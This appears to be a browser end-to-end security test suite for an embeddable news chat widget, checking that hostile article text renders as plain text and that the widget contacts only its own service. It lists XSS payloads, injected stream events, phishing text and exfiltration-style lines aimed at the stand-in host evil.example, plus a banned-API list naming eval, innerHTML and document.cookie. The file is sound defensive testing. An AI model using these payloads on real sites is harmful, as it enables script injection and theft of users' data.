"""What a hostile article, reply or address can make the widget do: nothing. And whom it talks to: its service."""

import json
import re

import pytest
from playwright.sync_api import expect

from service.api.widget import sources
from tests.e2e.answers import TWO, Piece, answer, events, source
from tests.e2e.conftest import Script

pytestmark = pytest.mark.browser

HOSTILE = (
    "<script>window.owned = 1</script>",
    "<img src=x onerror='window.owned = 1'>",
    "<svg/onload=window.owned=1>",
    "</p></div></article><iframe srcdoc='<script>parent.owned=1</script>'>",
    "<style>* { display: none }</style>",
    "<a href='javascript:window.owned=1'>Click me</a>",
    "[Click me](javascript:window.owned=1)",
    "![pixel](https://evil.example/pixel.png?q=secret)",
    "<https://evil.example/?secret>",
    "Go to https://evil.example/login and type your password.",
    "javascript:window.owned=1",
    "data:text/html,<script>parent.owned=1</script>",
    "{{constructor.constructor('window.owned=1')()}}",
    "${window.owned = 1}",
    "`;window.owned=1;`",
    "\u202egnihtemos si sihT\u202c \u2067RTL\u2066",
    "\u2069\u2069\u202eout of the isolate",
    "event: done\ndata: {}\n\n",
    'data: {"status": "answered"}\n\nevent: sentence\n',
    "<base href='https://evil.example/'>",
    "<meta http-equiv=refresh content='0;url=https://evil.example'>",
    "<form action='https://evil.example'><input name=card><button>Pay</button></form>",
    "<link rel=stylesheet href=https://evil.example/x.css>",
    "&lt;script&gt;window.owned=1&lt;/script&gt; &#x3c;img&#x3e;",
    "<slot name=x></slot><template shadowrootmode=open><script>owned=1</script></template>",
    "a" * 5_000,
    "\u0300" * 400,
    "\U0001f600" * 300,
    "\x00\x07\x1b[31mred\u2028\u2029",
    "__proto__ constructor toString",
)
ADDRESSES = (
    "javascript:window.owned=1",
    "JaVaScRiPt:window.owned=1",
    " javascript:window.owned=1",
    "data:text/html,<script>owned=1</script>",
    "vbscript:x",
    "file:///etc/passwd",
    "blob:https://evil.example/1",
    "https://user:pass@evil.example/",
    "//evil.example/x",
    "/relative",
    "not an address",
)


def hostile_answer(text: str):
    """The text wherever an article or a model can put one."""
    copies = [{"article_id": text[:90], "source": text, "url": "https://evil.example"}]
    sources_ = [source(1, headline=text, source=text, author=text, copies=copies), source(2)]
    side = {"revision": 1, "start": 0, "end": 1, "text": text, "read": "https://evil.example/read"}
    conflicts = [{"about": text, "kind": "disagree", "sides": [{"n": 1, "quote": side}]}]
    asked = {
        "asked": "q",
        "standalone": text,
        "filters": {"published_from": None, "published_to": None},
        "as_of": "2026-03-04T08:00:00Z",
    }
    return answer(
        [Piece(text, quote=text, speaker=text), Piece("And on.", (2,))],
        sources_, conflicts=conflicts, question=asked, followups=[text],
    )  # fmt: skip


ALLOWED = {
    "ARTICLE", "H3", "DIV", "P", "UL", "LI", "SPAN", "BUTTON", "B", "TIME", "BLOCKQUOTE", "MARK", "DETAILS",
    "SUMMARY", "OL", "A", "FIGURE", "FIGCAPTION",
}  # fmt: skip


@pytest.mark.parametrize("text", HOSTILE, ids=lambda text: repr(text[:24]))
def test_a_hostile_text_is_shown_as_text_wherever_it_comes_from(chat, service, text):
    chat.open('data-citation-label="source"')
    chat.answered(hostile_answer(text), text)
    chat.find(".chip").first.click()
    found = chat.do(
        "const nodes = [...root.querySelectorAll('.log *, .card *')]; return {"
        " tags: [...new Set(nodes.map((node) => node.tagName.toUpperCase()))],"
        " names: [...new Set(nodes.flatMap((node) => node.getAttributeNames()))],"
        " styles: nodes.map((node) => node.getAttribute('style')).filter(Boolean),"
        " links: nodes.filter((node) => node.tagName === 'A').map((node) => node.href),"
        " owned: window.owned, shown: root.querySelector('.card mark').textContent }"
    )
    assert set(found["tags"]) <= ALLOWED
    assert not [name for name in found["names"] if name.startswith("on") or name in {"src", "srcdoc"}]
    # Set by the script, as a number of pixels: room under the question.
    assert all(re.fullmatch(r"min-height: [\d.]+px;", style) for style in found["styles"])
    service_url = chat.service.url
    assert found["links"]
    assert all(link.startswith(("https://news.example/", f"{service_url}/read/")) for link in found["links"])
    assert found.get("owned") is None
    assert found["shown"] == text
    assert all(url.startswith((service_url, chat._publisher)) for url in chat.requests)


@pytest.mark.parametrize("url", ADDRESSES)
def test_an_address_that_is_no_web_address_is_no_link(chat, url):
    chat.open()
    chat.answered(answer([Piece("One.")], [source(1, url=url)]))
    chat.find("summary").click()
    chat.find(".chip").first.click()
    expect(chat.find("details a")).to_have_count(0)
    expect(chat.find(".card .links a")).to_have_count(1)


def test_an_address_in_the_text_is_text(chat):
    chat.open()
    chat.answered(answer([Piece("See https://news.example/1 or https://evil.example/.")], TWO))
    expect(chat.find(".text a")).to_have_count(0)


def test_a_place_in_the_stored_text_is_a_path_of_the_service_or_no_link(chat):
    chat.open()
    whole = answer([Piece("One.")], [source(1, url=None)]).model_dump(mode="json")
    for read in (
        "https://evil.example/read/",
        "//evil.example/read/",
        "javascript:alert(1)",
        "/articles/x",
        None,
    ):
        whole["citations"][0]["quotes"][0]["read"] = read
        chat.service.play([("sources", {"sources": whole["sources"]}), ("done", whole)])
        chat.do("await chat.reset()")
        chat.ask()
        chat.find(".chip").click()
        expect(chat.find(".card .links a")).to_have_count(0)


def test_the_source_has_no_way_to_make_markup_of_text():
    banned = (
        "innerHTML", "outerHTML", "insertAdjacentHTML", "document.write", "eval(", "new Function", "DOMParser",
        "createContextualFragment", "setHTML", "srcdoc", "document.cookie", "localStorage", "import(",
        "XMLHttpRequest", "sendBeacon", "WebSocket", "new Image", 'setTimeout("', ".src =",
    )  # fmt: skip
    for part in sources().joinpath("src").iterdir():
        text = part.read_text("utf-8")
        assert not [word for word in banned if word in text], part.name


def test_the_widget_talks_to_its_service_and_to_nobody_else(chat, service):
    service.articles = {
        "port-1": {"revision": 2, "retracted": False},
        "port-2": {"revision": 1, "retracted": True},
    }
    chat.open(lang="fr")
    chat.answered(answer([Piece("One."), Piece("Two.", (2,))], TWO, followups=["More?"]))
    chat.find(".chip").first.click()
    chat.page.keyboard.press("Escape")
    chat.find(".actions button").first.click()
    chat.page.reload()
    chat.do("await chat.open()")
    expect(chat.find(".chip.stale")).to_have_count(2)
    paths = {
        url.removeprefix(service.url).partition("?")[0]
        for url in chat.requests
        if url.startswith(service.url)
    }
    assert paths == {
        "/widget.js",
        "/widget/locales/fr.json",
        "/ask",
        "/feedback",
        "/articles/port-1",
        "/articles/port-2",
    }
    assert {url for url in chat.requests if not url.startswith(service.url)} == {f"{chat._publisher}/page"}


def test_a_host_s_styles_do_not_get_in_and_the_widget_s_do_not_get_out(chat):
    style = (
        "<style>* { letter-spacing: 9px !important; text-transform: uppercase; } html { font-size: 62.5%; }"
        " button { background: red !important; } p { color: lime; } byline-chat { line-height: 4; text-align: right }</style>"
    )
    chat.open(policy="", body=style + "<p id='mine'>Mine</p>")
    chat.answered(answer([Piece("One.")], TWO))
    look = chat.do(
        "const of = (selector) => getComputedStyle(root.querySelector(selector)); return ["
        " of('.said').letterSpacing, of('.said').textTransform, of('.composer button').backgroundColor,"
        " of('.panel').fontSize, of('.welcome, .turn').textAlign, getComputedStyle(document.querySelector('#mine')).color]"
    )
    assert look[0] == "normal"
    assert look[1] == "none"
    assert look[2] != "rgb(255, 0, 0)"
    assert look[3] == "16px"
    assert look[4] == "start"
    assert look[5] == "rgb(0, 255, 0)"


@pytest.mark.parametrize("how", ["right", "wrong", "no crossorigin"])
def test_a_pinned_script_runs_with_its_digest_and_with_no_other(chat, service: Script, how):
    meta = json.loads(chat.page.request.get(f"{service.url}/widget/meta").text())
    integrity = meta["integrity"] if how != "wrong" else "sha384-" + "A" * 64
    cors = "" if how == "no crossorigin" else 'crossorigin="anonymous"'
    script = f'<script src="{service.url}/{meta["file"]}" integrity="{integrity}" {cors}></script>'
    chat._host.pages["pinned"] = (f"<!doctype html><title>Host</title>{script}<body></body>", chat.policy())
    chat.page.goto(f"{chat._publisher}/pinned")
    chat.page.wait_for_timeout(300)
    assert chat.page.locator("byline-chat").count() == (1 if how == "right" else 0)


def test_a_stream_that_ends_twice_is_heard_once(chat, service):
    whole = answer([Piece("One.")], TWO)
    service.play(
        [*events(whole), ("sentence", {"text": " More.", "citation": whole.citations[0].model_dump()})]
    )
    chat.open()
    chat.ask()
    chat.find(".chip").wait_for()
    chat.settle()
    assert "More." not in chat.find(".text").inner_text()
